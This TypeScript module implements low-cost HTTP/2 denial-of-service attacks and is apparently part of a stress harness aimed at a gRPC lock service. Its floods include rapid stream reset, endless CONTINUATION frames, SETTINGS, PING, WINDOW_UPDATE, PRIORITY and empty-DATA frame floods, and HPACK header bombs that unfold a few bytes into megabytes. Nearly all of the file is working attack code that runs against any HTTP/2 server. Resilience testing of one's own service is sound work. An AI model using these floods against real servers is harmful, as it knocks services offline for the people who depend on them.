/** Attacks by HTTP/2 frames that cost their sender next to nothing. */
import { END_HEADERS, END_STREAM, frame, GREETING, literal, OPEN_GREETING, Requests, TYPE, word } from "../frames.ts";
import { dial, lanes, listenTo, PIECE, send, type Tally, type Target } from "../peer.ts";

/** How many connections attack at once. */
const CONNECTIONS = 4;

/** The headers of gRPC calls by a key. */
export const grpcHeaders = (key: string) => ({ "content-type": "application/grpc", te: "trailers", "x-api-key": key });

/** A message of one text in field 1, enveloped: what Check and others take. */
export function named(name: string): Buffer {
  const message = Buffer.concat([Buffer.from([0x0a, name.length]), Buffer.from(name)]);
  const head = Buffer.alloc(5);
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
}

/** Connections that greet and then send pieces without end; `begin` makes the next piece of a connection. */
async function flood(target: Target, tally: Tally, greeting: Buffer, begin: () => () => Buffer): Promise<void> {
  await lanes(target, CONNECTIONS, async () => {
    const socket = await dial(target, tally);
    if (socket === undefined) return;
    listenTo(socket, tally);
    const next = begin();
    let alive = await send(socket, greeting);
    while (alive) {
      const piece = next();
      alive = await send(socket, piece);
      if (alive) tally.add("bytes", piece.length);
    }
  });
}

/** The same piece again and again: so many of one frame as make it. */
function repeated(one: Buffer): () => () => Buffer {
  const piece = Buffer.concat(Array.from({ length: Math.ceil(PIECE / one.length) }, () => one));
  return () => () => piece;
}

/** As many requests as make a piece, each thrown away at once. */
function resets(key: string, path: string, body: Buffer | undefined): () => () => Buffer {
  return () => {
    const requests = new Requests(path, grpcHeaders(key));
    return () => {
      const parts: Buffer[] = [];
      for (let length = 0; length < PIECE; ) {
        const { bytes, stream } = requests.next(body);
        parts.push(bytes, frame(TYPE.RESET, 0, stream, word(8)));
        length += bytes.length + 13;
      }
      return Buffer.concat(parts);
    };
  };
}

/** Streams that are opened and reset at once. */
export const rapidReset = (target: Target, tally: Tally) =>
  flood(target, tally, OPEN_GREETING, resets(target.key, "/callme.v1.LockService/Check", undefined));

/** Whole calls, which begin work, and are thrown away before it is done. */
export const thrownAway = (target: Target, tally: Tally) =>
  flood(target, tally, OPEN_GREETING, resets(target.key, "/callme.v1.LockService/Acquire", named("thrown-away")));

/** HEADERS that never end. */
export const continuations = (target: Target, tally: Tally) =>
  flood(
    target,
    tally,
    Buffer.concat([GREETING, frame(TYPE.HEADERS, 0, 1, Buffer.from([0x83, 0x86, 0x84]))]),
    repeated(frame(TYPE.CONTINUATION, 0, 1, literal("a", "b"))),
  );

/** The same, without a byte in them. */
export const emptyContinuations = (target: Target, tally: Tally) =>
  flood(
    target,
    tally,
    Buffer.concat([GREETING, frame(TYPE.HEADERS, 0, 1, Buffer.from([0x83, 0x86, 0x84]))]),
    repeated(frame(TYPE.CONTINUATION, 0, 1)),
  );

export const settings = (target: Target, tally: Tally) => flood(target, tally, GREETING, repeated(frame(TYPE.SETTINGS, 0, 0)));

export const pings = (target: Target, tally: Tally) => flood(target, tally, GREETING, repeated(frame(TYPE.PING, 0, 0, Buffer.alloc(8))));

export const windows = (target: Target, tally: Tally) => flood(target, tally, GREETING, repeated(frame(TYPE.WINDOW, 0, 0, word(1))));

export const priorities = (target: Target, tally: Tally) =>
  flood(target, tally, GREETING, repeated(frame(TYPE.PRIORITY, 0, 1, Buffer.from([0, 0, 0, 3, 16]))));

/** Of a type that nobody knows, which must be ignored. */
export const unknown = (target: Target, tally: Tally) => flood(target, tally, GREETING, repeated(frame(0xee, 0, 0)));

/** An open request whose body comes in frames without a byte. */
export const emptyData = (target: Target, tally: Tally) =>
  flood(
    target,
    tally,
    Buffer.concat([GREETING, frame(TYPE.HEADERS, END_HEADERS, 1, openBlock(target.key))]),
    repeated(frame(TYPE.DATA, 0, 1)),
  );

function openBlock(key: string): Buffer {
  const fields = { ":path": "/callme.v1.LockService/Check", ":authority": "a", ...grpcHeaders(key) };
  return Buffer.concat([Buffer.from([0x83, 0x86]), ...Object.entries(fields).map(([name, value]) => literal(name, value))]);
}

/** Request after request whose headers are a few bytes that unfold to megabytes: one large field, kept in the table and named again and again. */
export const headerBombs = (target: Target, tally: Tally) =>
  flood(target, tally, GREETING, () => {
    let stream = 1;
    const keep = literal("x", "y".repeat(3_900), true);
    const bomb = Buffer.alloc(16_000, 0xbe);
    return () => {
      const parts: Buffer[] = [];
      for (let count = 0; count < 4; count++, stream += 2)
        parts.push(
          frame(
            TYPE.HEADERS,
            END_HEADERS | END_STREAM,
            stream,
            Buffer.concat([Buffer.from([0x83, 0x86, 0x84]), keep, bomb.subarray(0, 16_384 - 4 - keep.length)]),
          ),
        );
      return Buffer.concat(parts);
    };
  });
